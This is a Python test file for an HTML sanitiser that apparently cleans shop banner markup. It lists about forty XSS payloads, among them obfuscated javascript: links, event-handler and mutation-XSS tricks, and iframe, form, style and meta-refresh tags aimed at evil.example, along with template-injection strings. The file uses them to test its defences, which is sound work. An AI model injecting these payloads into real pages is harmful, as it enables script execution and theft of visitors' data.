from __future__ import annotations

import time

import pytest
import turbohtml

from proxy.errors import EditorError
from proxy.page.sanitise import ATTRIBUTES, PREFIXES, TAGS, is_allowed_address, removed_from, sanitised

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x"onload=alert(1)//">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:x>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=card><button>Pay</button></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<picture><source srcset='javascript:alert(1) 2x'><img src=/a.png></picture>",
    "<img src=/a.png srcset='/a.png 1x, data:text/html,x 2x'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<x-thing onclick=alert(1)>x</x-thing>",
    "<p id=body name=getElementById>x</p>",
    "<marquee onstart=alert(1)>x</marquee>",
    "</div></section><script>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_passes_the_gate(attack: str) -> None:
    elements = turbohtml.parse_fragment(sanitised(attack)).select("*")
    for element in elements:
        assert element.tag in TAGS
        for name in element.attrs:
            assert (
                name == "rel"
                or name in ATTRIBUTES["*"] | ATTRIBUTES.get(element.tag, set())
                or name.startswith(PREFIXES)
            )
        assert is_allowed_address(element.attr("href") or "")
        assert is_allowed_address(element.attr("src") or "")


@pytest.mark.parametrize("attack", ATTACKS)
def test_passing_the_gate_twice_changes_nothing(attack: str) -> None:
    assert sanitised(sanitised(attack)) == sanitised(attack)


@pytest.mark.parametrize(
    "html",
    [
        '<p class="big" data-x="1" aria-label="y" lang="nl">x</p>',
        '<picture><source srcset="/a.avif 1x, https://cdn.example/b.avif 2x" type="image/avif"><img src="/a.png" '
        'alt="x" width="10" height="5" loading="lazy"></picture>',
        '<a href="/sale" rel="noopener">x</a>',
        '<a href="mailto:a@b.example" rel="noopener">x</a>',
        '<a href="tel:+3120" rel="noopener">x</a>',
        "<h2>x</h2><ul><li>y</li></ul><table><tbody><tr><td>z</td></tr></tbody></table>",
    ],
)
def test_what_a_banner_needs_passes_unchanged(html: str) -> None:
    assert sanitised(html) == html
    assert removed_from(html.replace(' rel="noopener"', "")) == ()


@pytest.mark.parametrize(
    "attribute",
    [
        "data-bind",
        "data-mage-init",
        "data-method",
        "data-turbo-method",
        "data-ng-click",
        "data-NG:init",
        "data-ng_init",
        "data-hx-on:click",
        "data-hx-get",
        "data-x-data",
        "data-wp-bind--href",
        "data-uk-tooltip",
    ],
)
def test_what_a_script_of_the_shop_would_run_is_left_out_and_reported(attribute: str) -> None:
    kept = ("href", "data-binding", "data-next")
    source = f"<a {attribute}='alert(1)' {' '.join(f'{name}=x' for name in kept)}>x</a>"
    assert set(turbohtml.parse_fragment(sanitised(source)).select("a")[0].attrs) == {*kept, "rel"}
    assert [removed.attribute for removed in removed_from(source)] == [attribute.lower()]


@pytest.mark.parametrize(
    "source",
    ["{{x}}", "&#123;&#123;x}}", "{<!-- -->{x}}", "{{{x", '<p title="&lbrace;{x}}">y</p>', "{<script></script>{x}}"],
)
def test_no_template_language_of_the_page_comes_to_light(source: str) -> None:
    for cleaned in (sanitised(source), sanitised(source, lambda tag, attribute, value: value)):
        assert "{{" not in cleaned and "{ {" in cleaned


def test_what_is_left_out_is_reported_with_its_line() -> None:
    source = '<p onclick="x">\n<script>y</script>\n<a href="javascript:z">\n<img src=/a.png srcset="data:x 2x">'
    assert [(str(removed), removed.line) for removed in removed_from(source)] == [
        ("`onclick` of `<p>`", 1),
        ("`<script>`", 2),
        ("`href` of `<a>`", 3),
        ("`srcset` of `<img>`", 4),
    ]


@pytest.mark.parametrize(
    "address", ["/sale", "sale", "?a=b:c", "#x", "https://a.example/", "MAILTO:a@b", "tel:1", "//cdn/x"]
)
def test_relative_and_safe_addresses_are_allowed(address: str) -> None:
    assert is_allowed_address(address)


@pytest.mark.parametrize(
    "address", ["javascript:x", " javascript:x", "java\nscript:x", "\x00data:x", "http://x", "blob:x", "JAVASCRIPT:x"]
)
def test_addresses_of_other_schemes_are_not(address: str) -> None:
    assert not is_allowed_address(address)


@pytest.mark.parametrize("html", ["<div>" * 200_000, "<p " + " ".join(f"a{n}" for n in range(130_000)) + ">x"])
def test_more_than_a_banner_can_have_is_reported_at_once(html: str) -> None:
    began = time.process_time()
    with pytest.raises(EditorError, match="at most are read"):
        removed_from(html)
    assert time.process_time() - began < 5  # to clean it takes minutes
